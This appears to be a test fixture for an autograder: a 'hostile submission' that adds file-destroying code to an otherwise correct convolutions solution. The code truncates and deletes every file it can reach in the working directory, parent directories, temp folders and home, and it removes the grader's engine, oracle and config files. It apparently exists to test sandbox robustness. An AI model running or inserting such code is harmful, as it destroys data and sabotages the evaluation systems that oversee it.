"""Hostile submission: tries to delete or truncate every file it can reach: cwd, parents, /tmp, /dev/shm, and the repo via absolute paths; the solution is otherwise correct

Otherwise a correct solution (a copy of solutions/convolutions.py).
"""
# base: solutions/convolutions.py (this file's code runs after it)

import os
import shutil
import time


_deadline = time.monotonic() + 1.5


for _root in (".", "..", "/tmp", "/dev/shm", "/var/tmp", "/work/main", "/work/main/autograder", "/work/main/solutions",
              "/work/main/tests", "/opt/convkit", os.path.expanduser("~")):
    for _dir, _subdirs, _files in os.walk(_root):
        if time.monotonic() > _deadline:
            break
        for _file in _files:
            _path = os.path.join(_dir, _file)
            try:
                os.chmod(_path, 0o777)
            except OSError:
                pass
            try:
                open(_path, "w").close()
            except OSError:
                pass
            try:
                os.remove(_path)
            except OSError:
                pass
        for _sub in _subdirs:
            shutil.rmtree(os.path.join(_dir, _sub), ignore_errors=True)


for _path in ("/work/main/solutions/convolutions.py", "/work/main/autograder/convkit/exercises/oracle.py",
              "/work/main/autograder/convkit/grading/engine.py", "/work/main/pyproject.toml"):
    try:
        os.remove(_path)
    except OSError:
        pass
